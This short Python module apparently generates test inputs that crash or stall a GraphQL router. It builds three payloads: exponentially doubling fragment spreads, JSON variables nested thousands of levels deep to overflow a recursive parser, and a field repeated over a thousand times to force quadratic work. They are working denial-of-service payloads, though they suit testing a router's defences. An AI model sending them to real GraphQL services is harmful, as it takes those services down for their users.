"""Inputs that stop a router which parses them."""

import json
from typing import Any


def doubling_fragments(levels: int = 22) -> dict[str, Any]:
    """Each level spreads the next one twice: 2^levels selections when expanded."""
    chain = " ".join(f"fragment F{n} on Viewer {{ ...F{n + 1} ...F{n + 1} }}" for n in range(levels))
    return {"query": f"query {{ viewer {{ ...F0 }} }} {chain} fragment F{levels} on Viewer {{ id }}"}


def nested_json(member: str = "variables", depth: int = 7000) -> str:
    """A request whose variables or extensions exhaust the stack of a recursive parser."""
    request = json.dumps({"query": "query($h: String) { user(handle: $h) { id } }", member: {"h": "@"}})
    return request.replace('"@"', "[" * depth + "]" * depth)


def repeated_field(times: int = 1400) -> dict[str, Any]:
    """Below a field of an object, equal fields cost the router the square of their number."""
    return {"query": "{ viewer { user { " + "id " * times + "} } }"}
